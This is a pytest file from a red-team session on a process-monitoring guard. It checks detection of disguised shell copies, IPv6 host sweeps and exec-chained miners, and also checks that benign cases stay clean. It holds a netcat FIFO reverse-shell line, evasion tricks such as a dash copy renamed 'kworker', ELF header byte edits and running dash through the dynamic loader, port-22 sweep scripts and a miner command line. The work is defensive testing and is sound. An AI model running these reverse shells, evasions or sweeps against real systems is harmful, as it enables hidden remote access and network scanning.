"""Session 24: three of today's changes attacked by a notebook user who has read the code (a
copy of the system's shell told by its loadable segments, exe:shell-copy; connecting sockets
read again at each tick; a process read mid-exec read again), then run as an honest user
would. Real processes, real sampler, scanner and engine; everything on loopback or in a
network namespace of its own.

Tried and held: a copy of dash with a line appended (`cp /bin/dash k; echo >> k`), a hard
link to a copy of dash under another name, a copy run under `exec -a`, a copy of bash, a copy of
busybox running its shell applet (`busybox-kw sh -i`): each carries exe:shell-copy and, in
the FIFO loop, is a reverse shell. An IPv6 sweep in the guard's own namespace with 12
attempts in flight and 2 s timeouts is a host sweep. A miner reached through three execs,
read as soon as it runs beside twenty dash processes exec'ing themselves without end, has
its options at its first tick (few reads fall mid-exec: the storm never spends the 16
pauses of a tick).

Held clean (near misses): the system's own shells (dash, bash, busybox, /bin/sh) carry no
trait, nor do an environment's copies named bash and sh (a conda or venv `bin/`), nor a copy
of cat named kworker; that copy of cat in the very FIFO loop is no reverse shell. In the
guard's own network namespace, a crawler whose dead links are scattered and a pip-like
client retrying one unreachable IPv6 mirror are no host sweep.

Found and fixed: a copy of dash with one byte of its ELF header changed that the loader
ignores (an e_ident padding byte, or e_shoff) ran as dash but carried no trait (the first
PT_LOAD covers the header): those fields are zeroed before hashing. (A byte changed in a
message or the build-id note still evades: the documented "a byte changed is not told".)

Found and fixed (session 25): the system's own dash run by the dynamic loader
(`/lib64/ld-linux-x86-64.so.2 /bin/dash -i`): its exe was the loader, its first word the
loader's: no shell. A program a loader runs is now judged as that program (loader.py).

Found (strict xfail, the reasons on each):
- A sweep paced under the rule (8 in flight, 3 s timeouts: 27 hosts in 10 s), by design.
- A sweep whose attempts are given up within a tick (0.5 s timeouts, or non-blocking
  connects closed after 0.3 s) in the guard's own namespace: a host counts as unanswered
  only once seen half-open at two ticks a second apart (UNANSWERED_AFTER), which such an
  attempt never is. Telling it would need a host seen half-open once and never answering
  to count, which a crawler's dead links also are.
"""

from __future__ import annotations

import json
import os
import struct
import subprocess
import sys
import time
from pathlib import Path

import pytest

from colab_guard.detect.engine import Engine
from colab_guard.observe.content import ContentScanner
from colab_guard.observe.processes import ProcessSampler
from tests.harness import wait_until
from tests.test_behaviour_redteam18 import needs_netns, netns, site  # noqa: F401 (fixtures)
from tests.test_redteam_sampled20 import _group
from tests.test_redteam_session23 import _relay_connected
from tests.test_shell_streams import RULES, _wait_for, listener  # noqa: F401 (a fixture)

ROOT = Path(__file__).parent.parent
LOADER = "/lib64/ld-linux-x86-64.so.2"


# ---------------------------------------------------------------- helpers

def _loop(program: str, fifo: Path, port: int) -> str:
    """The FIFO reverse shell's line with ``program`` (and its options) as the shell."""
    return f"cat {fifo} | {program} 2>&1 | nc 127.0.0.1 {port} > {fifo}"


def _reverse_shell_seen(line: str, listener, tmp_path: Path,  # noqa: F811
                        timeout: float = 10.0) -> bool:
    """``line`` run by `bash -c` as the kernel; once its nc is connected, whether the
    engine names remote-reverse-shell in its tree before ``timeout`` s (the copy's file is
    scanned in the background: never judged on a first tick)."""
    with _group(["bash", "-c", line], stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL) as kernel:
        listener.accept_one()
        _relay_connected(kernel.pid)
        sampler, engine = ProcessSampler(), Engine(RULES)
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            snapshot = sampler.sample({"k": kernel.pid})["k"]
            if any(d.signature.id == "remote-reverse-shell" for d in engine.evaluate(snapshot)):
                return True
            time.sleep(0.1)  # the next tick
        return False


def _copy(source: str, path: Path, edit=None) -> Path:
    data = bytearray(Path(os.path.realpath(source)).read_bytes())
    if edit is not None:
        edit(data)
    path.write_bytes(bytes(data))
    path.chmod(0o755)
    return path


def _appended(path: Path) -> None:
    with open(path, "ab") as f:
        f.write(b"\n")  # `echo >> kworker`


def _ident_padding(data: bytearray) -> None:
    data[9] = 0x41  # e_ident[EI_PAD]: read by no loader


def _no_section_headers(data: bytearray) -> None:
    struct.pack_into("<Q", data, 0x28, 0)  # e_shoff: sections are for linkers, not loaders


# ---------------------------------------------------------------- copies that held

@pytest.mark.parametrize("make, program", [
    pytest.param(lambda d: _appended(_copy("/bin/dash", d / "kworker")), "{d}/kworker -i",
                 id="echo-appended"),
    # (a link to a copy: a link to the system's dash changes its ctime, which makes it a file
    # written in the session, exe:new, for every kernel on the machine from then on)
    pytest.param(lambda d: os.link(_copy("/bin/dash", d / "dash"), d / "kworker"),
                 "{d}/kworker -i", id="hard-link"),
    pytest.param(lambda d: _copy("/bin/dash", d / "kworker"),
                 "(exec -a kthreadd {d}/kworker -i)", id="exec-a"),
    pytest.param(lambda d: _copy("/bin/bash", d / "kworker"), "{d}/kworker -i", id="bash-copy"),
    pytest.param(lambda d: _copy("/usr/bin/busybox", d / "busybox-kw"), "{d}/busybox-kw sh -i",
                 id="busybox-copy-applet", marks=pytest.mark.skipif(
                     not os.path.exists("/usr/bin/busybox"), reason="needs busybox")),
])
def test_a_shells_copy_made_by_a_cheap_edit_in_a_loop_is_a_reverse_shell(make, program,
                                                                          listener, tmp_path):
    make(tmp_path)
    fifo = tmp_path / "f"
    os.mkfifo(fifo)
    line = _loop(program.format(d=tmp_path), fifo, listener.port)
    with _group(["bash", "-c", line], stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL) as kernel:
        listener.accept_one()
        _relay_connected(kernel.pid)
        shell, detections = _wait_for(  # once its file is scanned
            ProcessSampler(), kernel.pid,
            lambda p: "exe:shell-copy" in p.exe_markers and p.stream_relay)
    assert shell.stream_relay.startswith("nc")
    assert "remote-reverse-shell" in {d.signature.id for d in detections}


# ---------------------------------------------------------------- found

@pytest.mark.parametrize("edit", [_ident_padding, _no_section_headers],
                         ids=["e_ident-padding", "e_shoff"])
def test_a_shells_copy_with_a_header_byte_the_loader_ignores_is_a_reverse_shell(
        edit, listener, tmp_path):  # noqa: F811
    """Was missed (the first segment covers the header): those fields are zeroed before the
    segments are hashed."""
    copy = _copy("/bin/dash", tmp_path / "kworker", edit)
    fifo = tmp_path / "f"
    os.mkfifo(fifo)
    assert _reverse_shell_seen(_loop(f"{copy} -i", fifo, listener.port), listener, tmp_path)


def test_a_header_edited_copy_still_runs_as_dash(tmp_path):
    """The premise of the finding above: both edits leave a working shell."""
    for edit in (_ident_padding, _no_section_headers):
        copy = _copy("/bin/dash", tmp_path / edit.__name__, edit)
        ran = subprocess.run([copy, "-c", "echo $((6 * 7))"], capture_output=True, text=True,
                             timeout=10)
        assert ran.stdout == "42\n"


@pytest.mark.skipif(not os.path.exists(LOADER), reason="needs the x86-64 loader")
def test_the_systems_dash_run_by_the_loader_in_a_loop_is_a_reverse_shell(listener,  # noqa: F811
                                                                         tmp_path):
    """Was a strict xfail: its exe and first word were the loader's, so no shell. Now judged
    as the program the loader runs (loader.py): dash, reading commands."""
    fifo = tmp_path / "f"
    os.mkfifo(fifo)
    assert _reverse_shell_seen(_loop(f"{LOADER} /bin/dash -i", fifo, listener.port),
                               listener, tmp_path)


# ---------------------------------------------------------------- honest, kept clean

def _settled_markers(scanner: ContentScanner, process: subprocess.Popen, path: str):
    """The process's markers once it runs ``path`` (after its exec); None before."""
    exe = os.readlink(f"/proc/{process.pid}/exe")
    if os.path.realpath(exe) != os.path.realpath(path) and exe != path:
        return None
    cmdline = open(f"/proc/{process.pid}/cmdline").read().split("\0")[:-1]
    return [scanner.process_markers(process.pid, exe, cmdline)]


def test_the_systems_shells_and_an_environments_copies_named_as_shells_carry_no_trait(
        tmp_path):
    """What the engine treats as the system's shells keeps that treatment: dash, bash,
    busybox and /bin/sh as themselves; a conda or venv `bin/` holding copies named bash and
    sh (a shell by its name already); and a copy of cat named kworker (no shell's
    content)."""
    env = tmp_path / "env" / "bin"
    env.mkdir(parents=True)
    runs = {"/bin/sh": ["/bin/sh", "-c", "sleep 30; :"],
            "/bin/dash": ["/bin/dash", "-c", "sleep 30; :"],
            "/bin/bash": ["/bin/bash", "-c", "sleep 30; :"],
            str(_copy("/bin/bash", env / "bash")): [str(env / "bash"), "-c", "sleep 30; :"],
            str(_copy("/bin/dash", env / "sh")): [str(env / "sh"), "-c", "sleep 30; :"],
            str(_copy("/bin/cat", tmp_path / "kworker")): [str(tmp_path / "kworker")]}
    if os.path.exists("/usr/bin/busybox"):
        runs["/usr/bin/busybox"] = ["/usr/bin/busybox", "sh", "-c", "sleep 30; :"]
    scanner = ContentScanner(background=False)
    started = {path: subprocess.Popen(argv, stdin=subprocess.PIPE) for path, argv in runs.items()}
    try:
        markers = {path: wait_until(lambda: _settled_markers(scanner, p, path), timeout=20,
                                    what=f"{path} exec'd")[0]
                   for path, p in started.items()}
    finally:
        for p in started.values():
            p.kill()
            p.wait()
    assert {path: m for path, m in markers.items() if "exe:shell-copy" in m} == {}


def test_a_copy_of_cat_named_kworker_in_the_fifo_loop_is_no_reverse_shell(listener,  # noqa: F811
                                                                          tmp_path):
    """An echo service's shape: a program in a loop with nc that is no shell by name or
    content (its file scanned: it carries no trait, and no rule names it)."""
    copy = _copy("/bin/cat", tmp_path / "kworker")
    fifo = tmp_path / "f"
    os.mkfifo(fifo)
    line = _loop(str(copy), fifo, listener.port)
    with _group(["bash", "-c", line], stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL) as kernel:
        listener.accept_one()
        _relay_connected(kernel.pid)
        scanner = ContentScanner(background=False)
        wait_until(lambda: any(_scanned(scanner, p) for p in ProcessSampler().sample(
            {"k": kernel.pid})["k"].processes), timeout=20, what="kworker's file scanned")
        assert not _reverse_shell_seen_in(kernel.pid, ticks=20)


def _scanned(scanner: ContentScanner, process) -> bool:
    """Whether ``process`` runs kworker and its file reads as no shell's (scanned in the
    foreground)."""
    if not process.exe.endswith("/kworker"):
        return False
    return "exe:shell-copy" not in scanner.process_markers(process.pid, process.exe,
                                                           process.cmdline)


def _reverse_shell_seen_in(root: int, ticks: int) -> bool:
    sampler, engine = ProcessSampler(), Engine(RULES)
    for _ in range(ticks):
        snapshot = sampler.sample({"k": root})["k"]
        if any(d.signature.id == "remote-reverse-shell" for d in engine.evaluate(snapshot)):
            return True
        time.sleep(0.1)  # the next tick
    return False


# ---------------------------------------------------------------- the guard's own namespace

#: watch_kernel run in the namespace itself (the guard and the workload share it)
INSIDE = """
import json, sys
from tests.test_behaviour_hosts import watch_kernel
print(json.dumps(sorted(watch_kernel(json.loads(sys.argv[1]), float(sys.argv[2])))))
"""


def _watched_inside(netns: str, command: list[str], seconds: float) -> set[str]:  # noqa: F811
    watched = subprocess.run(["ip", "netns", "exec", netns, sys.executable, "-c", INSIDE,
                              json.dumps(command), str(seconds)], cwd=ROOT, capture_output=True,
                             text=True, env={**os.environ, "PYTHONPATH": str(ROOT)},
                             timeout=seconds + 30)
    assert watched.returncode == 0, watched.stderr
    return set(json.loads(watched.stdout.splitlines()[-1]))


def _v6_sweep(threads: int, timeout: float, seconds: float) -> list[str]:
    """A sweep of port 22 over a hitlist's /64s (none answers), ``threads`` at a time, each
    attempt given up after ``timeout`` s."""
    return ["-c", f"""
import itertools, socket, threading, time
counter, end = itertools.count(1), time.monotonic() + {seconds}
def knock():
    while time.monotonic() < end:
        i = next(counter)
        try:
            socket.create_connection((f'2001:db8:{{i % 65536:x}}:{{i * 7 % 65536:x}}::1', 22),
                                     timeout={timeout}).close()
        except OSError:
            pass
ts = [threading.Thread(target=knock) for _ in range({threads})]
[t.start() for t in ts]; [t.join() for t in ts]
"""]


NONBLOCKING_SWEEP = """
import socket, time
end, i = time.monotonic() + 20, 0
while time.monotonic() < end:
    batch = []
    for _ in range(32):
        i += 1
        s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
        s.setblocking(False)
        s.connect_ex((f'2001:db8:{i % 65536:x}:{i * 7 % 65536:x}::1', 22, 0, 0))
        batch.append(s)
    time.sleep(0.3)  # closed well within a tick
    [s.close() for s in batch]
"""


@needs_netns
@pytest.mark.xfail(strict=True, reason=(
    "attempts given up within a tick (0.5 s timeouts; non-blocking connects closed after "
    "0.3 s) are never seen half-open at two ticks a second apart (UNANSWERED_AFTER): no host "
    "counts as unanswered however many are tried"))
@pytest.mark.parametrize("command", [
    pytest.param(_v6_sweep(threads=32, timeout=0.5, seconds=20), id="half-second-timeouts"),
    pytest.param(["-c", NONBLOCKING_SWEEP], id="nonblocking-closed-before-the-tick"),
])
def test_a_sweep_giving_up_within_a_tick_in_the_guards_namespace_is_a_host_sweep(
        command, netns):  # noqa: F811
    assert "scan-hosts-over-window" in _watched_inside(netns, command, 22)


@needs_netns
def test_a_sweep_with_fewer_attempts_in_flight_in_the_guards_namespace_is_a_host_sweep(
        netns):  # noqa: F811
    """Twelve at a time with 2 s timeouts (the 18th session's test: 16 with 3 s): 60 hosts
    in 10 s, each half-open across two ticks."""
    found = _watched_inside(netns, _v6_sweep(threads=12, timeout=2, seconds=20), 22)
    assert "scan-hosts-over-window" in found


@needs_netns
@pytest.mark.xfail(strict=True, reason=(
    "eight at a time with 3 s timeouts tries 27 hosts in 10 s: under the rule's 50 within "
    "SCAN_WINDOW (and under SCAN_CANDIDATE, so not even counted per host); a sweep paced "
    "below the threshold is left by design, at the cost of hours for a /16"))
def test_a_sweep_paced_under_the_threshold_in_the_guards_namespace_is_a_host_sweep(
        netns):  # noqa: F811
    found = _watched_inside(netns, _v6_sweep(threads=8, timeout=3, seconds=20), 22)
    assert "scan-hosts-over-window" in found


PIP_RETRYING = """
import socket, time
for attempt in range(6):  # pip's retries of its one (unreachable) index mirror
    try:
        socket.create_connection(('2001:db8:1::443', 443), timeout=3).close()
    except OSError:
        time.sleep(0.5)
"""


@needs_netns
def test_a_pip_like_client_retrying_an_unreachable_mirror_in_the_guards_namespace_is_clean(
        netns):  # noqa: F811
    assert _watched_inside(netns, ["-c", PIP_RETRYING], 22) == set()


@needs_netns
def test_a_crawler_with_dead_links_in_the_guards_namespace_is_clean(netns, site):  # noqa: F811
    """The crawler standin (one link in 8 dead, scattered over 10/8), its sockets read from
    the tables the guard reads for itself (connecting ones again at each tick)."""
    found = _watched_inside(netns, [str(ROOT / "tests" / "standins" / "crawler.py"),
                                    "--port", str(site), "--seconds", "18"], 22)
    assert found == set()


# ---------------------------------------------------------------- reads mid-exec

MINER_OPTIONS = ["--url", "stratum+tcp://127.0.0.1:3333", "--user",
                 "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBB"
                 "Et7f2wfn3RVGQBEP3A", "--donate-level", "1"]
#: dash exec'ing itself without end: a process mid-exec at almost any tick, spending the
#: sampler's pauses for reads mid-exec (MAX_EXEC_WAITS a tick) before the miner is read
EXEC_STORM = 'exec sh "$0" "$1"'
CHAINS = 12


def test_a_miner_exec_chained_beside_an_exec_storm_has_its_options_at_its_first_tick(
        tmp_path):
    """Twenty dash processes exec'ing themselves in a loop (many reads mid-exec at each
    tick) and, one after another, a miner reached through three execs (`sh -c 'exec sh -c
    "exec python3 … --url stratum+tcp://…"'`): at the first tick that reads each miner as
    python, its options are there and mining-miner-command-line names it."""
    storm = tmp_path / "storm.sh"
    storm.write_text(EXEC_STORM + "\n")
    miner = " ".join([sys.executable, "-c", "'import time; time.sleep(30)'", *MINER_OPTIONS])
    chain = f"""exec sh -c "exec sh -c \\"exec {miner}\\"" """
    line = f"for i in $(seq 20); do sh {storm} x & done; sleep 30"
    sampler, engine, first_ticks = ProcessSampler(), Engine(RULES), []
    with _group(["bash", "-c", line]) as kernel:
        wait_until(lambda: sum(p.cmdline[1:2] == [str(storm)] for p in sampler.sample(
            {"k": kernel.pid})["k"].processes) >= 15, timeout=20, what="the storm exec'ing")
        for _ in range(CHAINS):
            with _group(["sh", "-c", chain]) as started:
                deadline = time.monotonic() + 10
                while time.monotonic() < deadline:
                    snapshot = sampler.sample({"k": kernel.pid, "m": started.pid})
                    tree = snapshot["m"]
                    seen = [p for p in tree.processes if p.pid == started.pid
                            and p.exe == os.path.realpath(sys.executable)]
                    if seen:
                        ids = {d.signature.id for d in engine.evaluate(tree)}
                        first_ticks.append((seen[0].cmdline[-6:], ids))
                        break
                    time.sleep(0.01)  # the next tick, soon: the miner's first reading
    print("reread", sampler.stats.reread)
    assert len(first_ticks) == CHAINS
    assert all(options == MINER_OPTIONS and "mining-miner-command-line" in ids
               for options, ids in first_ticks), first_ticks
